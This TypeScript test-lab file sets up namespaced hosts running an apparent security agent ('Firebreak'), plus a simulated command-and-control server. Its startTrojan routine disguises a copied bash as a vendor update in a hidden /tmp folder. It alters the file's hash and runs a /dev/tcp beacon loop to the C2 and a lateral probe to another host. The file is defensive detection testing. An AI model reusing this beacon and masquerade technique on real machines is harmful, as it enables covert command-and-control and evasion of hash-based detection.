/**
 * A small company on one machine, for the containment test and bench/contain: a Firebreak server
 * (in the root namespace, on the LAN's bridge address), three Linux hosts each running the real
 * `firebreak agent` in its own network namespace, and a command-and-control host. On host1 a
 * vendor application's "update" drops a helper (a copy of bash with bytes appended, so its hash is
 * new to the fleet) into a hidden folder under /tmp; the helper beacons to the C2 through bash's
 * /dev/tcp and then tries host2. It is harmless: it only opens TCP connections.
 */
import { copyFile, appendFile, chmod, mkdtemp, rm } from 'node:fs/promises';
import { randomBytes } from 'node:crypto';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { ChildProcess } from 'node:child_process';
import { PLAYBOOK_DIR } from '@firebreak/rules';
import { startServer, type RunningServer } from '@firebreak/server';
import { createLan, type Lan } from '@firebreak/testkit';
import { BIN } from './cli.js';

export const LAB_HOSTS = ['host1', 'host2', 'host3'] as const;
const ADMIN = `fbk_lab_${randomBytes(16).toString('hex')}`;
export const C2_PORT = 443;
export const SERVICE_PORT = 8080;

export interface Lab {
  lan: Lan;
  server: RunningServer;
  /** The API, as the admin. */
  api(method: string, path: string, body?: unknown): Promise<any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- whatever the API answers
  agentIds: Record<string, string>;
  /** Reachability measured before the agents started: each host to the C2, host1 to host2. */
  before: { c2: Record<string, boolean>; host1ToHost2: boolean };
  c2: string;
  /** What the agents and the server printed (for a failing test's message). */
  agentLog: string[];
  /** Whether `from` can open a TCP connection to address:port (a node one-liner inside the host). */
  reach(from: string, address: string, port: number): Promise<boolean>;
  /** Starts the trojanized update (on host1 unless named); resolves with the time it started (ms since the epoch) and the helper's path. */
  startTrojan(host?: string): Promise<{ startedAt: number; helper: string; process: ChildProcess }>;
  /** Kills a host's agent (SIGKILL: no chance to tidy up) and starts it again on its state directory. */
  restartAgent(host: string): Promise<void>;
  /** Starts a TCP service on a host (it accepts and holds connections). */
  startService(host: string, port: number): Promise<void>;
  /** Polls `probe` until it returns something, or fails after `timeoutMs` naming `what`. */
  until<T>(what: string, probe: () => Promise<T | undefined | false>, timeoutMs?: number): Promise<T>;
  close(): Promise<void>;
}

export async function startLab(options: { sampleMs?: number; log?: (line: string) => void } = {}): Promise<Lab> {
  const dir = await mkdtemp(join(tmpdir(), 'firebreak-lab-'));
  const lan = await createLan([...LAB_HOSTS, 'c2']);
  const agentLog: string[] = [];
  const trojanFolders: string[] = [];
  let server: RunningServer | undefined;
  try {
    server = await startServer({
      dataDir: join(dir, 'data'),
      listen: { host: lan.bridgeAddress, port: 0 },
      adminToken: ADMIN,
      playbooks: [PLAYBOOK_DIR],
      threads: 1,
      agentHeartbeatMs: 2000,
      log: options.log ?? ((line) => agentLog.push(`server: ${line}`)),
    });
    const url = server.url;
    // eslint-disable-next-line @typescript-eslint/no-explicit-any -- whatever the API answers
    const api = async (method: string, path: string, body?: unknown): Promise<any> => {
      const response = await fetch(`${url}${path}`, {
        method,
        headers: { authorization: `Bearer ${ADMIN}`, ...(body === undefined ? {} : { 'content-type': 'application/json' }) },
        body: body === undefined ? undefined : JSON.stringify(body),
      });
      const text = await response.text();
      if (!response.ok) throw new Error(`${method} ${path}: HTTP ${response.status} ${text}`);
      return JSON.parse(text);
    };
    // The C2 and a service on host2 the helper tries to reach: both accept and hold connections.
    const listen = (port: number): string =>
      `require('net').createServer((s) => { s.on('error', () => {}); s.on('data', () => {}); }).listen(${port}, () => console.log('listening'))`;
    await started(lan.spawn('c2', process.execPath, ['-e', listen(C2_PORT)]));
    await started(lan.spawn('host2', process.execPath, ['-e', listen(SERVICE_PORT)]));
    const reach = async (from: string, address: string, port: number): Promise<boolean> => {
      const script = `const s = require('net').connect(${port}, '${address}'); s.setTimeout(700, () => process.exit(1)); s.on('connect', () => process.exit(0)); s.on('error', () => process.exit(1));`;
      return (await lan.exec(from, process.execPath, ['-e', script], { timeoutMs: 5000 })).code === 0;
    };
    // Before any agent runs: connections the agents saw would make the C2 a destination the fleet knows.
    const before = {
      c2: Object.fromEntries(await Promise.all(LAB_HOSTS.map(async (host) => [host, await reach(host, lan.hosts.c2!.address, C2_PORT)]))),
      host1ToHost2: await reach('host1', lan.hosts.host2!.address, SERVICE_PORT),
    };

    const agentProcesses: Record<string, ChildProcess> = {};
    const runAgent = (host: string, extra: string[]): void => {
      const stateDir = join(dir, `agent-${host}`);
      const args = [BIN, 'agent', '--state-dir', stateDir, '--sample-ms', String(options.sampleMs ?? 100), '--auditd', 'off', ...extra];
      const agent = (agentProcesses[host] = lan.spawn(host, process.execPath, args));
      agent.stderr?.setEncoding('utf8').on('data', (chunk: string) =>
        agentLog.push(
          ...chunk
            .trimEnd()
            .split('\n')
            .map((line) => `${host}: ${line}`),
        ),
      );
    };
    for (const host of LAB_HOSTS) {
      const { token } = await api('POST', '/api/v1/agents/enroll-tokens', {});
      runAgent(host, ['--server', url, '--enroll-token', token, '--hostname', host]);
    }
    const lab: Lab = {
      lan,
      server,
      api,
      agentIds: {},
      before,
      c2: lan.hosts.c2!.address,
      agentLog,
      reach,
      restartAgent: async (host) => {
        const old = agentProcesses[host]!;
        const exited = new Promise((resolve) => old.once('exit', resolve));
        old.kill('SIGKILL');
        await exited;
        runAgent(host, []);
      },
      startService: (host, port) => started(lan.spawn(host, process.execPath, ['-e', listen(port)])),
      startTrojan: async (host = 'host1') => {
        const folder = await mkdtemp(join(tmpdir(), '.acme-update-'));
        trojanFolders.push(folder);
        const helper = join(folder, 'acme-helper');
        await copyFile('/bin/bash', helper);
        // Trailing bytes leave the program working and give it a hash no host has seen.
        await appendFile(helper, `\nacme voice 18.12.416 update ${randomBytes(8).toString('hex')}\n`);
        await chmod(helper, 0o755);
        const beacon = [
          'while :; do',
          `  exec 3<>/dev/tcp/${lab.c2}/${C2_PORT} && echo beacon >&3;`,
          '  sleep 1; exec 3>&-;',
          `  exec 4<>/dev/tcp/${lan.hosts.host2!.address}/${SERVICE_PORT}; exec 4>&-;`,
          '  sleep 0.2;',
          'done',
        ].join(' ');
        const startedAt = Date.now();
        const child = lan.spawn(host, helper, ['-c', beacon], { stdio: 'ignore' });
        return { startedAt, helper, process: child };
      },
      until,
      close: async () => {
        await server?.close();
        await lan.close();
        await rm(dir, { recursive: true, force: true });
        for (const folder of trojanFolders) await rm(folder, { recursive: true, force: true });
      },
    };
    const agents = await until(
      'every agent online',
      async () => {
        const { agents } = await api('GET', '/api/v1/agents');
        return agents.length === LAB_HOSTS.length && agents.every((a: { status: string }) => a.status === 'online') ? agents : undefined;
      },
      20_000,
    );
    for (const agent of agents) lab.agentIds[agent.hostname] = agent.id;
    // Ready once every agent's first sample (what already runs there) is stored: the trojan must come after it.
    for (const host of LAB_HOSTS)
      await until(
        `${host}'s first sample`,
        async () => (await api('GET', `/api/v1/events?host=${host}&limit=1`)).events.length > 0,
        20_000,
      );
    return lab;
  } catch (error) {
    await server?.close().catch(() => undefined);
    await lan.close();
    throw new Error(`${(error as Error).message}\n${agentLog.join('\n')}`);
  }
}

async function until<T>(what: string, probe: () => Promise<T | undefined | false>, timeoutMs = 15_000): Promise<T> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const value = await probe();
    if (value !== undefined && value !== false) return value;
    if (Date.now() > deadline) throw new Error(`timed out after ${timeoutMs} ms waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
}

function started(child: ChildProcess): Promise<void> {
  return new Promise((resolve, reject) => {
    child.stdout?.once('data', () => resolve());
    child.once('exit', (code) => reject(new Error(`a lab service exited (${code})`)));
  });
}
